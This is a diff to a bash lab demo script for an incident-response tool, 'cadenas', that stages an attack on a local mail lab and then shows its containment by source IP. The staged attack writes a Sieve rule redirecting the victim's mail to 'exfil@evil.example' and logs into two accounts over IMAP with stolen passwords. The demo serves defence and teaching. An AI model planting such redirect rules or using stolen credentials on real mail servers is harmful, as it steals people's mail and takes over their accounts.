@@ -1,6 +1,8 @@
 #!/bin/bash
-# A demo incident against the lab: an attacker reads mail with a stolen password, then one
-# `cadenas contain` takes them out.      bash lab/demo.sh path/to/cadenas
+# A demo incident against the lab: an attacker reads mail with stolen passwords from one
+# address and leaves a mail redirect rule; `cadenas sessions` finds who was used from that
+# address, and one `cadenas contain --from-ip` takes the attacker out of every account and
+# switches the rule off.      bash lab/demo.sh path/to/cadenas
 set -euo pipefail
 HERE=$(cd "$(dirname "$0")" && pwd)
 . "$HERE/lib.sh"
@@ -8,47 +10,69 @@ CADENAS=${1:-cadenas}
 set -a; . "$LAB/openldap/lab.env"; . "$LAB/dovecot/lab.env"; set +a
 CONFIG=$LAB/cadenas.toml
 VICTIM=user0042
+COLLEAGUE=user0043
 OUT=$LAB/demo; rm -rf "$OUT"; mkdir -p "$OUT"
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 
-# The attacker: logs in over IMAP with the stolen password and idles, like a mail client.
-python3 - "$VICTIM" "$CADENAS_LAB_USER_PW" > "$OUT/attacker.log" 2>&1 <<'PY' &
-import imaplib, sys, time
-m = imaplib.IMAP4("127.0.0.1", 10143)
-m.login(sys.argv[1], sys.argv[2]); m.select("INBOX")
-print("attacker: logged in as", sys.argv[1], flush=True)
-tag = m._new_tag().decode(); m.send(f"{tag} IDLE\r\n".encode()); m.readline()
-line = m.readline()
-print("attacker: server said:", line.decode().strip() or "(connection closed)", flush=True)
+# The attacker, from 127.0.0.66: leaves a Sieve rule that copies VICTIM's mail out, then
+# reads mail over IMAP with two stolen passwords (the keylogger took a colleague's too), idling
+# like a mail client.
+printf 'require ["copy"];\nredirect :copy "exfil@evil.example";\n' > "$OUT/attacker.sieve"
+for action in --upload --activate; do
+  printf '%s\n' "$CADENAS_LAB_USER_PW" | sieve-connect --server 127.0.0.1 --port 14190 --user "$VICTIM" \
+    --passwordfd 0 --clearchan $action --remotesieve rules --localsieve "$OUT/attacker.sieve" >/dev/null
+done
+python3 - "$VICTIM" "$COLLEAGUE" "$CADENAS_LAB_USER_PW" > "$OUT/attacker.log" 2>&1 <<'PY' &
+import imaplib, socket, sys, threading
+class FromAttacker(imaplib.IMAP4):
+    def _create_socket(self, timeout):
+        return socket.create_connection((self.host, self.port), timeout, source_address=("127.0.0.66", 0))
+def session(user):
+    m = FromAttacker("127.0.0.1", 10143)
+    m.login(user, sys.argv[3]); m.select("INBOX")
+    print("attacker (127.0.0.66): logged in as", user, flush=True)
+    tag = m._new_tag().decode(); m.send(f"{tag} IDLE\r\n".encode()); m.readline()
+    line = m.readline()
+    print("attacker: server said to", user + ":", line.decode().strip() or "(connection closed)", flush=True)
+threads = [threading.Thread(target=session, args=(u,)) for u in sys.argv[1:3]]
+for t in threads: t.start()
+for t in threads: t.join()
 PY
 ATTACKER=$!
-for _ in $(seq 50); do grep -q "logged in" "$OUT/attacker.log" 2>/dev/null && break; sleep 0.1; done
+for _ in $(seq 50); do [ "$(grep -c "logged in" "$OUT/attacker.log" 2>/dev/null)" = 2 ] && break; sleep 0.1; done
 
 say "Holiday morning: $VICTIM's password was keylogged. The attacker is reading mail over IMAP:"
 cat "$OUT/attacker.log"
 
-say "On-call sysadmin: what does the account look like?"
+say "On-call sysadmin: the alert names 127.0.0.66. Who is connected from there, or logged in from there?"
+"$CADENAS" --config "$CONFIG" sessions --ip 127.0.0.66 --since 2h
+
+say "What does $VICTIM's account look like? (the attacker's Sieve rule shows up)"
 "$CADENAS" --config "$CONFIG" status "$VICTIM"
 
-say "Dry run first: what would containment change?"
-"$CADENAS" --config "$CONFIG" plan "$VICTIM"
+say "Dry run first: what would containing everything seen from 127.0.0.66 change?"
+"$CADENAS" --config "$CONFIG" plan --from-ip 127.0.0.66
 
-say "Contain it: lock, reset (forced change), revoke sessions (Dovecot cache flush + kick), require MFA"
-"$CADENAS" --config "$CONFIG" contain "$VICTIM" --password-file "$OUT/$VICTIM.pw"
-ls -l "$OUT/$VICTIM.pw"
+say "Contain them: lock, reset (forced change), revoke (Dovecot cache flush + kick, the Sieve redirect off), require MFA; then kick 127.0.0.66"
+"$CADENAS" --config "$CONFIG" contain --from-ip 127.0.0.66 --password-file "$OUT/passwords.tsv"
+ls -l "$OUT/passwords.tsv"
 
-say "The attacker's session:"
+say "The attacker's sessions:"
 wait "$ATTACKER" || true
 cat "$OUT/attacker.log"
 
-say "The attacker tries the stolen password again:"
-python3 - "$VICTIM" "$CADENAS_LAB_USER_PW" <<'PY' || true
+say "The attacker tries the stolen passwords again:"
+python3 - "$VICTIM" "$COLLEAGUE" "$CADENAS_LAB_USER_PW" <<'PY' || true
 import imaplib, sys
-try:
-    imaplib.IMAP4("127.0.0.1", 10143).login(sys.argv[1], sys.argv[2]); print("   -> IMAP login: WORKS")
-except imaplib.IMAP4.error as e:
-    print("   -> IMAP login: refused (%s)" % e)
+for user in sys.argv[1:3]:
+    try:
+        imaplib.IMAP4("127.0.0.1", 10143).login(user, sys.argv[3]); print("   ->", user, "IMAP login: WORKS")
+    except imaplib.IMAP4.error as e:
+        print("   ->", user, "IMAP login: refused (%s)" % e)
 PY
+
+say "The Sieve rule, as the mail server shows it now (doveadm sieve list): kept for the investigation, not active"
+doveadm -c "$CADENAS_LAB_DOVECOT_CONF" sieve list -u "$VICTIM"
 
 say "After containment"
 "$CADENAS" --config "$CONFIG" status "$VICTIM"
@@ -73,4 +97,4 @@ say "Release: the account's original flags come back; the new password (must cha
 "$CADENAS" --config "$CONFIG" release "$VICTIM"
 "$CADENAS" --config "$CONFIG" status "$VICTIM"
 echo
-echo "The new password is in $OUT/$VICTIM.pw (0600), handed to $VICTIM; they must change it at first login."
+echo "The new passwords are in $OUT/passwords.tsv (0600), handed to $VICTIM and $COLLEAGUE; they must change them at first login."
